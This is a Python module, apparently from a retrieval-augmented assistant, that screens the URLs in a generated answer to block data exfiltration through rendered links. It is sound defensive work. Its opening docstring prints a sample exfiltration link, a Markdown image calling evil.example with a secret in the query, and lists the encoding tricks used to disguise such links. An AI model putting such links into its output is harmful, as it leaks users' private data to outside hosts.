"""Decides which addresses an answer may contain: those on allowed hosts and those of its own sources, no others.

A link can carry data out: `![](https://evil.example/?q=SECRET)` is fetched by whatever renders the answer. So what
counts is the address itself, not its markup, in every disguise that a Markdown renderer, an HTML parser or a browser
undoes: entities, percent and backslash escapes, backslashes for slashes, full-width letters and dots, invisible
characters.

A name without a scheme (`example.com/x`) and an address that no browser fetches (`s3://bucket`) are also allowed if a
passage contains them verbatim: they were written before the question was asked and so cannot reveal it.

Deliberately not treated as links: numeric hosts without a scheme (`10.0.0.0/8` is rarely a link); two-label names under
rare domains without a path (`user.id`), because each would have to be registered and so has no room for data; and names
that end in no top-level domain (`app.rag.links`, `values.prod.yaml`), because they lead nowhere.
"""

import html
import re
import unicodedata
from collections.abc import Collection
from urllib.parse import unquote

from app.rag.top_level_domains import TOP_LEVEL_DOMAINS

MAX_LINK_CHARS = 2048
"""A longer run of characters without a space is judged by its first part only."""
COMMON_DOMAINS = frozenset(
    re.findall(
        r"\w+",
        "com net org edu gov mil int biz info name pro web xxx aero asia coop museum shop app dev cloud online site "
        "top xyz club live tech store space website link click page blog news wiki zone host press world agency icu",
    )
)
TAIL = r"[^\s<>\"'`)\]}|]"
SCHEME = rf"[a-z][a-z0-9+.-]{{1,31}}\\*:(?![/\\]{{2}}){TAIL}+"
WEB = "https?|ftps?|wss?|javascript|vbscript|view-source|blob|mailto|xmpp"
LINK = rf"""
    (?P<web>(?:{WEB})\\*:{TAIL}+
      | data:[\w.+-]*(?:/[\w.+-]*)?[;,]{TAIL}*
      | file:[/\\]{TAIL}*
      | (?<=[("'<=\[`])[/\\]{{2,}}{TAIL}+
      | (?<![\w/\\])[/\\]{{2,}}[^\s/\\]*\.{TAIL}+
      | (?:(?<=\]\()|(?<=\]\(<)|(?<=\]:)|(?<=<)){SCHEME})
    | (?P<scheme>[a-z][a-z0-9+.-]{{0,31}}\\*:[/\\]{{2}}{TAIL}*)
    | (?<![\w.-])(?P<name>(?:[\w-]+\\*\.)+
        (?P<domain>(?!(?:{WEB}|data|file):)[^\W\d_]{{2,24}}|xn--[a-z0-9-]+)(?![\w-]|:[/\\]))
      (?::\d+)?(?P<path>[/?\#\\]{TAIL}*)?
    """
ANYWHERE = re.compile(LINK, re.VERBOSE | re.IGNORECASE)
AT_DESTINATION = re.compile(rf"\A(?P<destination>{SCHEME}|[/\\]{{2,}}{TAIL}+)|{LINK}", re.VERBOSE | re.IGNORECASE)
"""Where Markdown expects an address, after `](` or `]:`, any scheme makes one."""
WEB_SCHEME = re.compile(r"https?|ftp|ws", re.IGNORECASE)
PLAIN_URL = re.compile(
    r"(?:https?://(?P<host>[a-z0-9.-]+)|(?P<name>[a-z0-9-]+(?:\.[a-z0-9-]+)+))(?::\d{1,5})?(?P<path>[/?#][^\s\\]*)?",
    re.IGNORECASE,
)
SUSPECT_VALUE = re.compile(
    r"[/\\]{2}|\A[a-z][a-z0-9+.-]*:|(?:https?|javascript|vbscript|data):|\\|url\(", re.IGNORECASE
)
"""What makes an attribute's value suspicious: another host, a scheme, or a style that may contain one."""
DOTS = str.maketrans("\u3002\uff0e\uff61", "...")
INVISIBLE = frozenset({"Cf", "Cc", "Zs", "Zl", "Zp"})
END_MARKS = ".,;:!?*_~"


def revealed(text: str) -> str:
    """Return the text as a renderer and then a browser would finally read it."""
    if text.isascii() and "&" not in text and "%" not in text:
        return text
    for _ in range(2):
        text = unquote(html.unescape(text), errors="ignore")
    text = unicodedata.normalize("NFKC", text.translate(DOTS)).translate(DOTS)
    return "".join(c for c in text if (c.isascii() and c.isprintable()) or unicodedata.category(c) not in INVISIBLE)


class Links:
    """Judges the addresses in one answer."""

    def __init__(self, hosts: frozenset[str], sources: Collection[str], passages: Collection[str]) -> None:
        """Allow `hosts` (lower case; `*` for every host), the exact addresses `sources`, and names in `passages`."""
        self._hosts, self._sources, self._passages = hosts, sources, passages

    def foreign(self, before: str, run: str, *, is_destination: bool) -> tuple[int, int]:
        """Return where in `run` the first foreign address starts and ends; if there is none, both are the length of
        `run`.

        `before` is the text directly in front of `run`, without a space between, so an address may start at a negative
        place. `is_destination` says whether `before` begins where Markdown expects an address. A disguised address
        cannot be told from its neighbours, so then the whole run counts as one.
        """
        whole = before + run
        plain = revealed(whole)
        for link in (AT_DESTINATION if is_destination else ANYWHERE).finditer(plain):
            text = link.group().rstrip(END_MARKS)
            start, end = link.start() - len(before), link.start() + len(text) - len(before)
            rest = plain[link.start() + len(text) :]
            if (plain != whole or end > 0) and not self._allowed(link, text, rest):
                # With an `@` in the rest, the cut part would be a user name and the real host would follow it.
                return (start, len(run) if "@" in rest else end) if plain == whole else (0, len(run))
        return len(run), len(run)

    def is_foreign_value(self, value: str) -> bool:
        """Say whether an attribute value, or a destination in angle brackets, leads to a host that is not allowed."""
        address = "".join(revealed(value).split())
        if not SUSPECT_VALUE.search(address):
            return False
        return not (address in self._sources or self._on_allowed_host(address, ""))

    def _allowed(self, link: re.Match[str], text: str, rest: str) -> bool:
        if text in self._sources or self._on_allowed_host(text, rest):
            return True
        if link["scheme"]:
            return not WEB_SCHEME.match(text) and self._is_quoted(text)
        return link["name"] is not None and (not _is_link_name(link) or self._is_quoted(text))

    def _on_allowed_host(self, text: str, rest: str) -> bool:
        """Strict on purpose: an address that two parsers could read as different hosts is on no allowed host."""
        match = PLAIN_URL.fullmatch(text)
        if not match or not self._hosts & {"*", (match["host"] or match["name"]).lower()}:
            return False
        return "//" not in match["path"] if match["path"] else "@" not in rest

    def _is_quoted(self, text: str) -> bool:
        return any(text in passage for passage in self._passages)


def _is_link_name(link: re.Match[str]) -> bool:
    """Say whether a client that turns bare names into links would do so with this one."""
    name, domain, path = link["name"].lower(), link["domain"].lower(), link["path"] or ""
    if link.string[link.start() - 1 : link.start()] == "@" and not path:
        return False  # an e-mail address
    if name.startswith("www.") or domain in COMMON_DOMAINS:
        return True
    if name.count(".") > 1 and (domain in TOP_LEVEL_DOMAINS or not domain.isascii() or domain.startswith("xn--")):
        return True
    return len(path) > 1
